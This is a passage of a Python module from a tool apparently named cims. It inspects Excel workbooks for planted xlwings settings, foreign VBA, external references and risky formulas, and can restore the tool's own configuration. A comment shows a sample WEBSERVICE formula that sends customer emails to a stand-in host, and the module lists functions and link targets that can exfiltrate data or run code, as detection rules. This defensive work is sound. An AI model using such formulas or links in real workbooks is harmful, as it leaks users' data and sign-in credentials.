"""The workbook is a trust boundary: settings and code in it that cims did not write.

Whoever can write a workbook file another person opens can plant what Excel and xlwings
obey when that person opens it and signs in:

- rows in the `xlwings.conf` sheet (xlwings reads A1 down, `End(xlDown)`, keys
  case-insensitive: `GetConfigFromSheet` in xlwings.bas); any cell there cims did not write
  is named, wherever it sits.
  `PYTHONPATH`, `Interpreter_Win`/`_Mac`, `Conda Path`/`Env` or another `UDF Modules`
  make Excel run Python code from wherever they point, with the signed-in password;
- an `xlwings.conf` file next to the workbook (xlwings' directory config, read when the
  sheet has no such key: `GetDirectoryConfigFilePath`);
- VBA: a module cims does not ship, one whose code differs from cims's, or code in a
  sheet's document module (event handlers run on open, on a click, on a recalculation);
- other parts that run code: the VBA project wherever the workbook's relationship points,
  a second or unreferenced project, Excel 4.0 macro sheets, dialog sheets, ActiveX
  controls, OLE objects, a project signature, a ribbon callback naming another workbook,
  a DDE/OLE link. They are found the way Excel finds them (`package_code`), not by name.

`inspect(book)` lists them (`Finding`s, each a sentence naming the place and the value);
`cims sync` refuses a workbook with any before writing anything, and `--restore-settings`
puts back cims's own: the `xlwings.conf` block as `build.XLWINGS_CONF` writes it, the sheet
visible, and the VBA project cims builds for the same sheets at xl/vbaProject.bin with
the workbook's one relationship pointing there, any other project removed (`restore`).
Custom document properties are not read here: the xlwings VBA reads none.

VBA is compared as source code (oletools' `VBA_Parser`), Attribute lines and trailing
blanks aside (Excel rewrites those when it saves), and LibreOffice's `Option ClassModule`
in a class module, whatever stream type it gives the module. What runs in Excel can still differ
from the source (the compiled p-code of a project saved by another Excel, "VBA
stomping"), which only Excel's own macro security covers: see the README.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ..errors import CimsError

CONF_SHEET = "xlwings.conf"
VBA_PART = "xl/vbaProject.bin"


class UntrustedWorkbook(CimsError):
    """The workbook holds settings or code cims did not write; nothing was written."""
    exit_code = 14


@dataclass(frozen=True)
class Finding:
    text: str                 # names the place and the value
    restorable: bool = True   # `--restore-settings` puts back cims's own
    kind: str = ""            # what `restore` puts back for it ("store", "name", "sheet"; "" settings/VBA)
    place: str = ""           # the name or sheet it is about


def _conf_sheet(wb):
    """The xlwings.conf sheet (Excel's sheet names are case-insensitive), or None."""
    for ws in wb.worksheets:
        if ws.title.casefold() == CONF_SHEET:
            return ws
    return None


_BOOL_FORMULA = re.compile(r"=?\s*(true|false)\s*(\(\s*\))?", re.I)


def _norm(value: Any) -> str:
    """A setting's value as xlwings reads it (Range.Value): a cell LibreOffice saved as
    the formula =TRUE() reads as TRUE."""
    if isinstance(value, bool):
        return "true" if value else "false"
    text = "" if value is None else str(value).strip()
    m = _BOOL_FORMULA.fullmatch(text)
    return m.group(1).casefold() if m else text.casefold()


def _value(ws, row: int, col: int) -> Any:
    """A cell's value without creating the cell (ws.cell would, and the save would write it)."""
    cell = ws._cells.get((row, col))
    return None if cell is None else cell.value


def _cims_conf_cells() -> dict[tuple[int, int], Any]:
    """(row, column) -> value of every cell cims writes in the settings sheet (`build`)."""
    from openpyxl import Workbook

    from .build import _add_conf

    ws = _add_conf(Workbook())
    return {key: cell.value for key, cell in ws._cells.items() if cell.value not in (None, "")}


# (a try is made only at the first digit of a run: from a later one it fails as the try one
# place earlier did, and retrying each digit of a long run took time quadratic in the cell)
_VERSION = re.compile(r"(?<!\d)\d+(\.\d+)+\S*")


def _conf_findings(wb) -> list[Finding]:
    """Every non-empty cell of the settings sheet that cims did not write. xlwings reads
    the block from A1 down (`GetConfigFromSheet`: `A1:A1.End(xlDown)` when A2 is filled,
    so an empty A1 above a filled A2 still reads A2), keys case-insensitive; rather than
    copy where that block ends, any cell that differs from what cims writes is named."""
    from openpyxl.utils import get_column_letter

    from .build import XLWINGS_CONF

    ws = _conf_sheet(wb)
    if ws is None:
        return []
    ours = {key.upper(): value for key, (value, _note) in XLWINGS_CONF.items()}
    cims_cells = _cims_conf_cells()
    found = []
    if ws.sheet_state != "visible":
        found.append(Finding(f"the {ws.title} sheet is {ws.sheet_state} (cims leaves it visible)"))
    cells = sorted((r, c) for (r, c), cell in ws._cells.items() if cell.value not in (None, ""))
    rows = sorted({r for r, c in cells if c in (1, 2) and (r <= len(XLWINGS_CONF) or
                   (_value(ws, r, c) != cims_cells.get((r, c))))})
    for row in rows:
        key, value = _value(ws, row, 1), _value(ws, row, 2)
        if key in (None, ""):
            found.append(Finding(f"{ws.title} row {row}: a value without a setting name = {_shown(value)} "
                                 "(cims writes nothing there; xlwings reads a row below an empty A1)"))
            continue
        name = str(key).strip().upper()
        if name not in ours:
            found.append(Finding(f"{ws.title} row {row}: {key} = {_shown(value)} (cims does not write "
                                 f"this setting; xlwings obeys it)"))
        elif _norm(value) != _norm(ours[name]):
            found.append(Finding(f"{ws.title} row {row}: {key} = {_shown(value)} (cims writes "
                                 f"{_shown(ours[name])})"))
    for r, c in cells:
        if r in rows and c in (1, 2) or r <= len(XLWINGS_CONF) and c == 3:
            continue
        value = _value(ws, r, c)
        if _VERSION.sub("#", str(value)) != _VERSION.sub("#", str(cims_cells.get((r, c)))):
            found.append(Finding(f"{ws.title} cell {get_column_letter(c)}{r} = {_shown(value)} "
                                 "(cims writes " + ("nothing there)" if (r, c) not in cims_cells else
                                                    f"{_shown(cims_cells[(r, c)])} there)")))
    return found


def _shown(value: Any) -> str:
    from ..terminal import shown

    text = "(empty)" if value in (None, "") else str(value)
    return shown(text if len(text) <= 120 else text[:119] + "…")


def _code_lines(code: str, kind: str | None = None) -> list[str]:
    """A module's code as compared: line endings, trailing blanks and the Attribute lines
    (Excel and LibreOffice rewrite them) aside. LibreOffice saves a class module as a
    module of another type and marks it `Option ClassModule` (its Basic's spelling of
    the class attribute): for a module cims ships as a class that line is set aside too,
    whichever stream type the project gives it."""
    lines = [ln.rstrip() for ln in code.replace("\r\n", "\n").replace("\r", "\n").split("\n")
             if not ln.lstrip().lower().startswith("attribute ")]
    if kind == "class" and lines and " ".join(lines[0].split()).casefold() == "option classmodule":
        lines = lines[1:]
    while lines and not lines[-1]:
        lines.pop()
    return lines


def vba_modules_of(data: bytes) -> dict[str, str] | None:
    """Module name -> source code of a vbaProject.bin (None when it does not read)."""
    import warnings

    with warnings.catch_warnings():         # oletools' pyparsing use warns on import
        warnings.simplefilter("ignore")
        from oletools.olevba import VBA_Parser

    import logging

    logging.getLogger("olevba").setLevel(logging.ERROR)     # "stomping cannot be detected in memory"
    try:
        parser = VBA_Parser("vbaProject.bin", data=data)
        try:
            return {stream.split("/")[-1]: code for _f, stream, _n, code in parser.extract_macros()}
        finally:
            parser.close()
    except Exception:     # oletools raises its own and OLE errors for a damaged part
        return None


def _vba_findings(data: bytes) -> list[Finding]:
    """What in the package's code parts cims did not write (`package_code`), and the
    modules of the VBA project the workbook points to that differ from cims's."""
    code = package_code(data)
    found = list(code.findings)
    if code.project is None:
        return found
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        try:
            project = z.read(code.project)
        except KeyError:        # the relationship points nowhere: Excel loads no project
            return found
    return (found + _module_findings(code.project, project, libreoffice=_saved_by_libreoffice(data))
            + _reference_findings(code.project, project))


# [MS-OVBA] 2.3.4.2.2: a REFERENCE record's kinds (the first field of each is a libid)
_REF_IDS = {0x000D: "registered", 0x000E: "project", 0x002F: "control", 0x0033: "original"}
# Built into every Excel project whether the dir stream lists them or not: VBA, Excel.
_BUILT_IN = {"{000204ef-0000-0000-c000-000000000046}", "{00020813-0000-0000-c000-000000000046}"}
_GUID = re.compile(r"\{[0-9a-f-]{36}\}", re.I)


def vba_references_of(project: bytes) -> list[tuple[str, str]] | None:
    """(kind, libid) of each reference in a vbaProject.bin's `VBA/dir` stream (None when
    it does not read). The dir stream is a run of records (Id: 2 bytes, Size: 4, data),
    the one exception PROJECTVERSION (Id 9: Reserved 4 + 6 bytes of version)."""
    import struct

    import olefile
    from oletools.olevba import decompress_stream

    try:
        with olefile.OleFileIO(project) as ole:
            name = next(p for p in ole.listdir(streams=True)
                        if len(p) >= 2 and p[-1].casefold() == "dir" and p[-2].casefold() == "vba")
            data = bytes(decompress_stream(bytearray(ole.openstream(name).read())))
    except Exception:           # not a storage, no dir stream, a stream that does not decompress
        return None
    refs, at = [], 0
    while at + 6 <= len(data):
        rid, size = struct.unpack_from("<HI", data, at)
        if rid == 0x0009:
            size = 6
        body = data[at + 6: at + 6 + size]
        at += 6 + size
        if rid == 0x000F:        # PROJECTMODULES: the references are all before it
            break
        if rid in _REF_IDS and len(body) >= 4:
            n = struct.unpack_from("<I", body)[0]
            refs.append((_REF_IDS[rid], body[4:4 + n].decode("latin-1")))
    return refs


def _ref_key(libid: str) -> str:
    m = _GUID.search(libid)
    return m.group(0).casefold() if m and libid.startswith("*\\G") else libid.casefold()


def _reference_findings(name: str, project: bytes) -> list[Finding]:
    """References cims's own project does not have: a REFERENCEPROJECT makes Excel open
    the project (workbook or add-in) it names, wherever that sits, and load its code."""
    from .build import vba_modules, vba_project_bin

    refs = vba_references_of(project)
    if refs is None:
        return []                # _module_findings says the project does not read
    ours = {_ref_key(lib) for _k, lib in vba_references_of(vba_project_bin(vba_modules(1))) or []} | _BUILT_IN
    return [Finding(f"the VBA project ({name}) has a {kind} reference cims's does not: {_shown(libid)}")
            for kind, libid in refs if _ref_key(libid) not in ours]


def _module_findings(name: str, project: bytes, *, libreoffice: bool = False) -> list[Finding]:
    from .build import WORKBOOK_CODE_NAME, vba_modules

    found = []
    modules = vba_modules_of(project)
    if modules is None:
        return [Finding(f"the VBA project ({name}) cannot be read, so its code cannot be "
                        "compared with what cims ships")]
    shipped = {name: (kind, src) for kind, name, src in vba_modules(0)}
    hint = " (saved by LibreOffice?)" if libreoffice else ""
    for name, code in sorted(modules.items()):
        kind, src = shipped.get(name, (None, None))
        if src is not None and name != WORKBOOK_CODE_NAME:
            if _code_lines(code, kind) != _code_lines(src, kind):
                found.append(Finding(f"VBA module {name} differs from the one cims ships{hint}"))
        elif name == WORKBOOK_CODE_NAME or _document_name(name):
            if _code_lines(code):
                found.append(Finding(f"VBA code in the document module {name} (cims leaves it empty): "
                                     f"{_shown(_code_lines(code)[0].strip())}"))
        else:
            found.append(Finding(f"VBA module {name} is not one cims ships"))
    return found


def _saved_by_libreoffice(data: bytes) -> bool:
    import io
    import zipfile

    try:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return b"LibreOffice" in z.read("docProps/app.xml")
    except (KeyError, zipfile.BadZipFile):
        return False


def _document_name(name: str) -> bool:
    return name.startswith("Sheet") and name[5:].isdigit()


def _directory_conf(path: Path) -> list[Finding]:
    conf = path.parent / CONF_SHEET
    if conf.exists():
        return [Finding(f"{conf} sits next to the workbook: xlwings reads its settings when the workbook "
                        "is opened in Excel; cims does not write it (remove it, or check what it says)",
                        restorable=False)]
    return []


def inspect(book, *, store=None) -> list[Finding]:
    """What in a `FileWorkbook` cims did not write (see the module's docstring), and the
    workbook values cims acts on that point somewhere cims would not go by itself
    (`_acted_on_findings`). `store`: the store this run signed in to (a sync's)."""
    found = _conf_findings(book.wb)
    # every suffix sync takes: DDE/OLE links, ActiveX, macro sheets work in a .xlsx too
    found += _vba_findings(book.original_bytes)
    found += _acted_on_findings(book, store)
    found += formula_findings(book.wb)
    return found + _directory_conf(book.path)


# -- formulas that reach the network or run code ---------------------------------------------
#
# A formula is the workbook's content, but some reach outside the machine when Excel
# recalculates: whoever next signs in and refreshes fills the tables with their role's
# data, and =WEBSERVICE("https://x/?d="&TEXTJOIN(",",TRUE,tblCustomers[Email])) would send
# it off; a reference into a workbook on \\server\share makes Windows send the person's
# sign-in (NTLM) there. Such formulas, in any sheet's cells or in a defined name, are
# named, sheet, cell and function; sync refuses them like planted settings, and
# --restore-settings does not remove them (they may be the user's own: the user does).
# Formulas are read with openpyxl's Tokenizer: a text that merely mentions WEBSERVICE is
# not a formula, and a string inside a formula is not a call.

_NET_FUNCTIONS = {
    "WEBSERVICE": "fetches a web address, which can carry the sheet's data",
    "IMAGE": "fetches a picture from a web address, which can carry the sheet's data",
    "RTD": "starts the real-time data server it names",
    "CALL": "calls a function in a DLL",
    "REGISTER": "loads a function from a DLL",
    "REGISTER.ID": "loads a function from a DLL",
    "EXEC": "starts a program",
}
_FAR_TARGET = re.compile(r"^\s*(?:file:|\\\\|//)", re.I)      # file:, \\server\share, //server
_WEB_TARGET = re.compile(r"^\s*(?:https?|ftp)://", re.I)
_FUNC_CALL = re.compile(r"(?<![\w.])(?:_xlfn\.|_xlws\.)*(" + "|".join(
    re.escape(f) for f in sorted(_NET_FUNCTIONS, key=len, reverse=True)) + r"|HYPERLINK|FILTERXML)\s*\(", re.I)
_STRING = re.compile(r'"(?:[^"]|"")*"')
MAX_FORMULA_FINDINGS = 20


def _function_name(token_value: str) -> str:
    name = token_value.rstrip("(").upper()
    while name.startswith(("_XLFN.", "_XLWS.")):
        name = name[6:]
    return name


def _external_reference(operand: str) -> bool:
    """A range operand in another workbook or on a share: [x.xlsx]S!A1, '\\\\h\\s\\[x.xlsx]S'!A1,
    [1]S!A1 (an external link), 'C:\\x\\[y.xlsx]S'!A1; not a table's column tbl[Col]."""
    if "!" not in operand:
        return operand.startswith("[") and "]" in operand and not operand.startswith("[#")
    book = operand.rsplit("!", 1)[0]
    return "[" in book or "\\" in book or "/" in book or ":" in book.strip("'")[:3]


_SAFE_LINK = re.compile(r"^(?:https?://|mailto:)", re.I)


def _link_target_problem(target: str) -> str | None:
    """A literal link target (a HYPERLINK's text, a cell hyperlink's address): None for an
    http:, https: or mailto: address or a place in this workbook (#Sheet!A1); otherwise
    what it is. file:, \\\\server, ms-msdt:, mk:, search-ms: and the rest open programs
    or send the Windows sign-in."""
    if _SAFE_LINK.match(target) or target.startswith("#"):
        return None
    return f"a link to {_shown(target[:120])} (not an http:, https: or mailto: address: a click can " \
        "open a program or send the Windows sign-in there)"


def _hyperlink_formula_problem(target: list) -> str | None:
    """HYPERLINK's first argument, as tokens: only one literal safe text is not named; a
    target built when Excel calculates ("fi"&"le:…", CHAR(92)&…, a cell, a name) is named,
    except one that starts with a literal "#" text joined by & (it stays in this workbook)."""
    from openpyxl.formula.tokenizer import Token

    toks = [t for t in target if t.type != Token.WSPACE]
    if not toks:
        return None
    first = toks[0]
    literal = first.type == Token.OPERAND and first.subtype == Token.TEXT
    text = first.value[1:-1].replace('""', '"') if literal else ""
    if literal and len(toks) == 1:
        problem = _link_target_problem(text)
        return problem and "HYPERLINK to " + problem[len("a link to "):]
    if literal and text.startswith("#") and toks[1].type == Token.OP_IN and toks[1].value == "&":
        return None
    if literal and _WEB_TARGET.match(text):
        return "HYPERLINK to a web address built from the sheet's values (a click sends them)"
    return ("HYPERLINK to a target built when Excel calculates (only a literal http:, https: or "
            "mailto: address is not named: a built one can be file:, \\\\server or a program's scheme)")


def _formula_problems(formula: str) -> list[str]:
    """What in one formula (text starting with "=") reaches the network or runs code."""
    from openpyxl.formula.tokenizer import Token, Tokenizer, TokenizerError

    try:
        tokens = Tokenizer(formula).items
    except (TokenizerError, IndexError, ValueError):
        tokens = None
    if tokens is None:      # not a formula the tokenizer reads: look at it outside its strings
        bare = _STRING.sub('""', formula)
        said = [f"{_function_name(m[1])}" for m in _FUNC_CALL.finditer(bare)]
        if "|" in bare and "!" in bare:
            said.append("a DDE link (starts the program it names)")
        return sorted(set(said))
    problems = []
    # one frame per open function, array or bracket: [name, argument index, tokens of the first argument]
    frames: list[list] = []
    filterxml_texts = []
    hyper_targets = []        # the first argument of each HYPERLINK, as its tokens
    for tok in tokens:
        opens = tok.subtype == Token.OPEN and tok.type in (Token.FUNC, Token.ARRAY, Token.PAREN)
        closes = tok.subtype == Token.CLOSE and tok.type in (Token.FUNC, Token.ARRAY, Token.PAREN)
        enclosing = frames
        if closes and frames:
            frame = frames.pop()
            if frame[0] == "HYPERLINK":
                hyper_targets.append(frame[2])
        elif tok.type == Token.SEP and tok.subtype == Token.ARG and frames:
            frames[-1][1] += 1
            enclosing = frames[:-1]          # the comma ends the innermost one's argument
        for frame in enclosing:               # a token inside HYPERLINK's first argument, however deep
            if frame[0] == "HYPERLINK" and frame[1] == 0:
                frame[2].append(tok)
        if opens:
            name = _function_name(tok.value) if tok.type == Token.FUNC else tok.value
            if name in _NET_FUNCTIONS:
                problems.append(f"{name} ({_NET_FUNCTIONS[name]})")
            frames.append([name, 0, []])
        elif tok.type == Token.OPERAND:
            inside = next((f[0] for f in reversed(frames) if f[0] in ("HYPERLINK", "FILTERXML")), None)
            if tok.subtype == Token.TEXT and inside == "FILTERXML":
                filterxml_texts.append(tok.value[1:-1].replace('""', '"'))
            elif tok.subtype == Token.RANGE and _external_reference(tok.value):
                problems.append(f"a reference into another workbook ({tok.value}): Excel reads it, "
                                "from a \\\\server share sending the Windows sign-in")
    hyper_targets += [f[2] for f in frames if f[0] == "HYPERLINK"]     # left open
    for target in hyper_targets:
        problem = _hyperlink_formula_problem(target)
        if problem:
            problems.append(problem)
    if any(_WEB_TARGET.match(t) or _FAR_TARGET.match(t) for t in filterxml_texts):
        problems.append("FILTERXML over a web or file address")
    return problems


def _cell_formulas(ws):
    from openpyxl.worksheet.formula import ArrayFormula

    # the cells the sheet holds (iter_rows would make an empty cell for every gap)
    cells = ws._cells.values() if isinstance(getattr(ws, "_cells", None), dict) else (
        c for row in ws.iter_rows() for c in row)
    for cell in list(cells):
        if getattr(cell, "data_type", None) != "f":
            continue
        value = cell.value
        if isinstance(value, ArrayFormula):
            value = value.text
        if isinstance(value, str) and value.startswith("="):
            yield cell.coordinate, value


def _defined_names(wb):
    """(where, name, formula) of every defined name: the workbook's and each sheet's."""
    for name, dn in getattr(wb, "defined_names", {}).items():
        yield "the workbook", name, dn.attr_text
    for ws in wb.worksheets:
        for name, dn in getattr(ws, "defined_names", {}).items():
            yield ws.title, name, dn.attr_text


def _rule_formulas(ws):
    """(what, formula) of each conditional-format rule and data validation on the sheet:
    Excel calculates them like cells (WEBSERVICE in one fetches as a cell's would)."""
    for cf in getattr(ws, "conditional_formatting", ()):
        for rule in cf.rules:
            texts = list(rule.formula or ())
            for scale in (rule.colorScale, rule.dataBar, rule.iconSet):
                texts += [v.val for v in getattr(scale, "cfvo", None) or () if v.type == "formula" and v.val]
            for text in texts:
                yield f"the conditional format on {_shown(ws.title)}!{cf.sqref}", str(text)
    validations = getattr(ws, "data_validations", None)
    for dv in getattr(validations, "dataValidation", ()) or ():
        for text in (dv.formula1, dv.formula2):
            if text:
                yield f"the data validation on {_shown(ws.title)}!{dv.sqref}", text


def _cell_links(ws):
    """(sheet!cell, target) of each cell hyperlink (Insert → Link) that leaves the workbook."""
    seen = set()
    cells = ws._cells.values() if isinstance(getattr(ws, "_cells", None), dict) else ()
    for cell in list(cells):
        link = getattr(cell, "_hyperlink", None)
        target = getattr(link, "target", None)
        if not target or (link.ref, target) in seen:
            continue
        seen.add((link.ref, target))
        yield f"{_shown(ws.title)}!{link.ref or cell.coordinate}", target


def formula_findings(wb) -> list[Finding]:
    """The formulas in cells, conditional formats, data validations and defined names that
    reach the network or run code, and the cell hyperlinks to anything but an http:, https:
    or mailto: address, each named (sheet!cell or the name, and what it uses); at most
    MAX_FORMULA_FINDINGS lines then a count of the rest. None is restorable: the user
    removes them."""
    hits = []
    for ws in wb.worksheets:
        for coord, formula in _cell_formulas(ws):
            for problem in _formula_problems(formula):
                hits.append(f"the formula in {_shown(ws.title)}!{coord} uses {problem}")
        for where, text in _rule_formulas(ws):
            for problem in _formula_problems(text if text.startswith("=") else "=" + text):
                hits.append(f"{where} uses {problem}")
        for where, target in _cell_links(ws):
            problem = _link_target_problem(target)
            if problem:
                hits.append(f"the cell hyperlink in {where} is {problem}")
    for where, name, text in _defined_names(wb):
        if not text:
            continue
        for problem in _formula_problems(text if text.startswith("=") else "=" + text):
            hits.append(f"the defined name {_shown(name)} ({where}) uses {problem}")
    tail = "; cims writes none and does not remove your formulas or links: remove it, then sync again"
    found = [Finding(_shown_long(h) + tail, restorable=False) for h in hits[:MAX_FORMULA_FINDINGS]]
    if len(hits) > MAX_FORMULA_FINDINGS:
        found.append(Finding(f"{len(hits) - MAX_FORMULA_FINDINGS} more formulas like these (`cims workbook "
                             "check` names them after the first ones are removed)", restorable=False))
    return found


def _shown_long(text: str) -> str:
    from ..terminal import shown

    return shown(text if len(text) <= 300 else text[:299] + "…")


# -- the workbook's own values that cims acts on ------------------------------------------
#
# Besides xlwings' settings and code, cims itself reads values from the workbook and acts
# on them. Each was decided (README, docs/security-model.md):
#
# - the Store cell (CIMS_StorePath): the store the ribbon's Sign in opens. Taken only when
#   this OS account chose that store itself (`security.known_stores.judge`); one it did
#   not is named here and refused at sign-in.
# - every defined name cims reads or writes (Home's, the Import sheet's, each report
#   sheet's filter and output cells): it must be one cell range on the visible sheet cims
#   puts it on, defined once for the workbook. A name moved to a hidden sheet (what cims
#   reads there, nobody sees) or onto another sheet (where cims's writes would land) is named.
# - the data sheets whose rows a Save stores: one Excel's own menus cannot show
#   (veryHidden) is named; a plain hidden sheet is the user's own choice.
# - the Import sheet's File, Record type, Currency and Options cells: acted on only when
#   the person presses Import, after a dry run whose summary shows them and a question;
#   a file on another computer is asked about before it is opened (import_sheet).
# - the report sheets' filter cells: reports are computed within the signed-in user's
#   permissions whatever they say.
# - the data rows themselves, their hidden _key and fingerprint columns: the workbook's
#   content; tokens lead only to the user's own records (services.sheet_rows).
# The user name is never read from the workbook ($CIMS_USER or the prompt).

def _cims_names(wb) -> dict[str, tuple[str, str]]:
    """Defined name -> (the sheet cims puts it on, its cell range there), for every name
    cims reads or writes that this workbook could hold."""
    from openpyxl import Workbook

    from ..report_layout import FILTER_CELLS, FILTER_SUFFIXES, OUTPUT_CELL, REPORT_SHEETS, filter_name
    from .build import _add_home, _add_import

    fresh = Workbook()
    _add_home(fresh)
    _add_import(fresh)
    out = {}
    for name, dn in fresh.defined_names.items():
        for title, ref in dn.destinations:
            out[name] = (title, ref)
    for sheet in REPORT_SHEETS:
        for suffix in FILTER_SUFFIXES:
            out[filter_name(sheet, suffix)] = (sheet, FILTER_CELLS[suffix])
        out[filter_name(sheet, "Output")] = (sheet, f"A{OUTPUT_CELL[0]}")
    return out


def _acted_on_findings(book, store) -> list[Finding]:
    wb = book.wb
    found = []
    states = {ws.title: ws.sheet_state for ws in wb.worksheets}
    for name, (sheet, ref) in _cims_names(wb).items():
        can_fix = states.get(sheet) is not None
        for ws in wb.worksheets:
            if name in ws.defined_names:
                found.append(Finding(f"the name {name} is defined a second time, for the sheet {ws.title} "
                                     f"only ({_shown(ws.defined_names[name].attr_text)}; cims defines it once, "
                                     f"on {sheet})", restorable=can_fix, kind="name", place=name))
        dn = wb.defined_names.get(name)
        if dn is None:
            continue
        places = [(t, r) for t, r in dn.destinations]
        if len(places) != 1 or places[0][0] not in states:
            found.append(Finding(f"the name {name} refers to {_shown(dn.attr_text)}, not to a cell on {sheet} "
                                 f"(cims points it at {sheet}!{ref.replace('$', '')})", restorable=can_fix, kind="name", place=name))
            continue
        title, where = places[0]
        if title != sheet:
            found.append(Finding(f"the name {name} points at {title}!{where.replace('$', '')}"
                                 + (f", on a {states[title]} sheet" if states[title] != "visible" else "")
                                 + f" (cims points it at {sheet}!{ref.replace('$', '')}; cims reads and writes that cell)",
                                 restorable=can_fix, kind="name", place=name))
        elif states[title] != "visible":
            found.append(Finding(f"the sheet {title}, where cims reads and writes {name}, is {states[title]} "
                                 "(cims leaves it visible)", kind="sheet", place=title))
    for lay, title in book.data_sheets().items():
        if states.get(title) == "veryHidden":
            found.append(Finding(f"the data sheet {title} is veryHidden: Excel's menus cannot show it, and a "
                                 "Save would store its rows (cims leaves it visible)", kind="sheet", place=title))
    return sorted(set(found), key=found.index) + _store_findings(book, store)


def _store_findings(book, store) -> list[Finding]:
    from ..security.known_stores import judge
    from .live_session import named_store

    named = named_store(book)
    if named is None:
        return []
    verdict = judge(named, also=store)
    if verdict.problem is None:
        return []
    return [Finding(f"Home's Store cell (CIMS_StorePath) names the store {_shown(named)}: {verdict.problem}. "
                    "The ribbon's Sign in refuses it"
                    + (f"; if it is your store, `cims workbook trust {book.path.name}` accepts it"
                       if verdict.acceptable else ""), kind="store")]


def accepted_store(book) -> str | None:
    """The store path the workbook's Store cell names (for `cims workbook check|trust`)."""
    from .live_session import named_store

    return named_store(book)


_NOTHING = {"save": "Nothing was saved", "refresh": "Nothing was refreshed", "reports": "Nothing was written",
            "check": "Found", "restore": "Nothing was written"}


def refusal(path: Path, found: list[Finding], action: str) -> UntrustedWorkbook:
    lines = "\n".join(f"  - {f.text}" for f in found)
    fixable = all(f.restorable for f in found)
    advice = (f"if you did not put them there, someone who can write this file did: `cims sync {path.name} "
              f"{'refresh' if action in ('check', 'restore') else action} --restore-settings` puts back cims's own settings and VBA"
              + ("" if all(not f.kind for f in found) else
                 ", the names and sheets as cims makes them, and in the Store cell the store that sync signs in to")
              if fixable else "remove what cims cannot put back (marked above) and run the sync again; "
              "--restore-settings puts back the rest")
    what = ("holds settings or code cims did not write; in Excel they would run with the password of "
            "whoever signs in there" if all(not f.kind for f in found) else
            "holds settings, code or values that cims did not write or that point where cims would not go "
            "by itself; in Excel cims or xlwings would act on them with the password of whoever signs in there")
    return UntrustedWorkbook(f"{path.name} {what}. {_NOTHING.get(action, 'Nothing was written')}:\n"
                             f"{lines}\n"
                             + advice)


def restore(book, found: list[Finding], *, store=None) -> list[str]:
    """Put back cims's own settings and VBA in `book` (written by its next save()), its
    names where cims puts them, its sheets visible, and in the Store cell the store this
    run signed in to (`store`). Returns what was restored, one sentence each; raises
    UntrustedWorkbook when a finding cannot be put back."""
    from .build import XLWINGS_CONF

    left = [f for f in found if not f.restorable or (f.kind == "store" and store is None)]
    if left:
        raise refusal(book.path, left, "restore")
    done = []
    ours = _cims_names(book.wb)
    names = sorted({f.place for f in found if f.kind == "name"})
    if names:
        fixes = {name: _ref_text(*ours[name]) for name in names}
        book.after_save_edits.append(lambda pkg: _put_back_names(pkg, fixes))
        done.append("the names " + ", ".join(names) + " where cims puts them")
    for title in sorted({f.place for f in found if f.kind == "sheet"}):
        book.after_save_edits.append(lambda pkg, title=title: _show_sheet(pkg, title))
        done.append(f"the sheet {title} visible")
    if any(f.kind == "store" for f in found):
        from .live_session import NAME_STORE
        from .adapter import put_file_cell

        sheet, ref = ours[NAME_STORE]
        put_file_cell(book.wb[sheet][ref.replace("$", "")], str(store))
        done.append(f"in the Store cell on {sheet}, the store this sync signed in to ({_shown(str(store))})")
    found = [f for f in found if not f.kind]
    ws = _conf_sheet(book.wb)
    if ws is not None and any(f.text.startswith(ws.title) or f.text.startswith(f"the {ws.title}") for f in found):
        for r, (key, (value, note)) in enumerate(XLWINGS_CONF.items(), start=1):
            if (_value(ws, r, 1), _value(ws, r, 2)) != (key, value):
                ws.cell(r, 1).value, ws.cell(r, 2).value = key, value
                ws.cell(r, 3).value = note
        cims_cells = _cims_conf_cells()
        for (r, c), cell in list(ws._cells.items()):
            if (r > len(XLWINGS_CONF) or c > 3) and cell.value not in (None, "") and (r, c) not in cims_cells:
                cell.value = None
        for (r, c), value in cims_cells.items():
            if r > len(XLWINGS_CONF) and _value(ws, r, c) != value:
                ws.cell(r, c).value = value
        if ws.sheet_state != "visible":
            book.after_save_edits.append(lambda pkg, title=ws.title: _show_sheet(pkg, title))
        done.append(f"the {ws.title} sheet as cims writes it, visible")
    if any(f.text.startswith("VBA") or "VBA project" in f.text for f in found):
        code = package_code(book.original_bytes)
        ours = _our_vba(book, code)
        book.after_save_edits.append(lambda pkg: _put_back_vba(pkg, code, ours))
        done.append("the VBA project cims ships" + (f" (removed {', '.join(sorted(code.vba_parts - {VBA_PART}))})"
                                                    if code.vba_parts - {VBA_PART} else ""))
    return done


def _put_back_vba(pkg, code: PackageCode, ours: bytes) -> None:
    """cims's project at xl/vbaProject.bin, the workbook's one relationship pointing there,
    its content type; every other VBA project, relationship and content type removed."""
    from .package import CT_NS, rels_name

    for source, rid, _target in code.vba_rels:
        if pkg.has(rels_name(source)):
            pkg.remove_rel(source, rid)
    for name in code.vba_parts:
        pkg.delete(name)
    pkg.write(VBA_PART, ours)
    pkg.add_rel(code.workbook or "xl/workbook.xml", VBA_REL, VBA_PART)
    root = pkg.xml("[Content_Types].xml", edit=True)
    for el in list(root):
        if el.tag == f"{{{CT_NS}}}Override" and ((el.get("PartName") or "").lstrip("/").casefold()
                                                   in {n.casefold() for n in code.vba_parts | {VBA_PART}}):
            root.remove(el)
    pkg.content_type_override(VBA_PART, "application/vnd.ms-office.vbaProject")


def _our_vba(book, code: PackageCode) -> bytes:
    from .build import vba_modules, vba_project_bin

    modules = {}
    for name in ([code.project] if code.project else []) + sorted(code.vba_parts):
        try:
            modules = vba_modules_of(book.original_bytes_of(name)) or {}
        except KeyError:
            continue
        if modules:
            break
    sheets = sum(1 for name in modules if _document_name(name))
    want = {f"Sheet{i}" for i in range(1, sheets + 1)}
    if {name for name in modules if _document_name(name)} != want:
        raise UntrustedWorkbook(f"{book.path.name}: its VBA sheet modules are not Sheet1..Sheet{sheets}, so cims "
                                "cannot put back its VBA project here; build a new workbook (cims workbook build) "
                                "and refresh it")
    return vba_project_bin(vba_modules(sheets))


def _ref_text(sheet: str, ref: str) -> str:
    from openpyxl.utils import absolute_coordinate, quote_sheetname

    return f"{quote_sheetname(sheet)}!{absolute_coordinate(ref.replace('$', ''))}"


def _put_back_names(pkg, fixes: dict[str, str]) -> None:
    """Each name in `fixes` defined once, for the workbook, as cims defines it."""
    from .package import SML_NS

    book = pkg.xml("xl/workbook.xml", edit=True)
    for el in list(book.iter(f"{{{SML_NS}}}definedName")):
        name = el.get("name")
        if name not in fixes:
            continue
